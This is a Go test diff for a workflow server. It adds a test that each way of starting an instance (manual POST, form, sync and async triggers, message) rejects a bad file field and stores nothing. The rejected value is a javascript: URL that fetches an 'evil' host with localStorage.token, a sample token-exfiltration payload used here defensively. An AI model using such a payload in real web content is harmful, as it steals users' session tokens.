@@ -3,6 +3,7 @@ package server_test
 import (
 	"encoding/base64"
 	"os"
+	"strconv"
 	"strings"
 	"sync"
 	"testing"
@@ -479,8 +480,9 @@ func TestSyntheticInitiatorsAreNotUsers(t *testing.T) {
 			t.Fatalf("anonymous submit: %d %s", r.Status, r.Body)
 		}
 		// A user named like the old synthetic initiator (created before the names were reserved) owns nothing.
-		if err := s.DB().Exec("INSERT INTO users (tenant_id, username, password_hash, display_name, roles, department, manager, created_at, updated_at) " +
-			"SELECT tenant_id, 'anonymous', password_hash, 'old', '[]', '', '', created_at, updated_at FROM users WHERE username = 'admin'").Error; err != nil {
+		// (Migration account_ids gave such rows an account id.)
+		if err := s.DB().Exec("INSERT INTO users (tenant_id, username, password_hash, display_name, roles, department, manager, account_id, created_at, updated_at) " +
+			"SELECT tenant_id, 'anonymous', password_hash, 'old', '[]', '', '', 'legacy-anonymous', created_at, updated_at FROM users WHERE username = 'admin'").Error; err != nil {
 			t.Fatal(err)
 		}
 		tok := e.do("POST", "/api/v1/auth/login", "", M{"username": "anonymous", "password": "admin-pw-1"}, nil).JSON["token"].(string)
@@ -688,4 +690,61 @@ func TestSecurityDocCoversEveryRoute(t *testing.T) {
 			}
 		}
 	}
+}
+
+// Second audit, item 5: a value that a form of the template (the start form or a node's) declares as a file field
+// is checked however the instance starts — POST /instances, a form submission, an API trigger (sync and async), a
+// message — and a refused start stores nothing.
+func TestEveryStartChecksFileFields(t *testing.T) {
+	storetest.Each(t, func(t *testing.T, s *store.Store) {
+		e := newEnv(t, s, nil)
+		bob := e.mkUser("bob")
+		erp := e.apiToken("erp")
+		proofForm := M{"kind": "components", "fields": []any{M{"id": "p", "type": "attachment", "label": "Proof", "field": "proof"}}}
+		review := M{"id": "review", "type": "approval", "approvers": M{"users": []string{"bob"}}, "form": proofForm}
+		edges := []any{edge("start", "review"), edge("review", "end")}
+		end := M{"id": "end", "type": "end"}
+		e.publish("by-hand", []any{start(M{"kind": "manual"}), review, end}, edges)
+		e.publish("by-form", []any{start(M{"kind": "form", "form": M{"kind": "components", "fields": []any{}}}), review, end}, edges)
+		e.publish("by-sync", []any{start(M{"kind": "sync-api", "module": "fin", "function": "claim"}), review, end}, edges)
+		e.publish("by-async", []any{start(M{"kind": "async-api", "module": "fin", "function": "claim-later"}), review, end}, edges)
+		e.publish("by-message", []any{start(M{"kind": "message", "message": "claim.filed"}), review, end}, edges)
+
+		bad := []any{M{"name": "receipt.html", "data_url": "javascript:fetch('//evil/'+localStorage.token)"}}
+		good := []any{M{"name": "receipt.txt", "size": 1, "type": "text/plain", "data_url": "data:text/plain;base64,eA=="}}
+		sent := 0
+		starts := map[string]func(proof any) resp{
+			"POST /instances": func(proof any) resp {
+				return e.do("POST", "/api/v1/instances", bob, M{"template": "by-hand", "context": M{"proof": proof}}, nil)
+			},
+			"form": func(proof any) resp { return e.do("POST", "/api/v1/forms/by-form/submit", bob, M{"proof": proof}, nil) },
+			"sync trigger": func(proof any) resp {
+				return e.do("POST", "/api/v1/trigger/sync/fin/claim", "", M{"proof": proof}, nil)
+			},
+			"async trigger": func(proof any) resp {
+				return e.do("POST", "/api/v1/trigger/async/fin/claim-later", "", M{"proof": proof}, nil)
+			},
+			"message": func(proof any) resp {
+				sent++ // a correlation id per message: a running instance would claim the next one
+				return e.do("POST", "/api/v1/messages", erp, M{"name": "claim.filed", "correlation_id": "claim-" + strconv.Itoa(sent), "data": M{"proof": proof}}, nil)
+			},
+		}
+		for name, startWith := range starts {
+			before := e.rowCount("instances", "1 = 1")
+			r := startWith(bad)
+			assertError(t, r, 422, "invalid_file")
+			if gjson.GetBytes(r.Body, "error.details.field").String() != "proof" {
+				t.Fatalf("%s: the error does not name the field: %s", name, r.Body)
+			}
+			if n := e.rowCount("instances", "1 = 1"); n != before {
+				t.Fatalf("%s: a refused start stored %d instances", name, n-before)
+			}
+			if r := startWith(good); r.Status >= 300 {
+				t.Fatalf("%s with a valid file: %d %s", name, r.Status, r.Body)
+			}
+			if n := e.rowCount("instances", "1 = 1"); n != before+1 {
+				t.Fatalf("%s with a valid file started %d instances", name, n-before)
+			}
+		}
+	})
 }
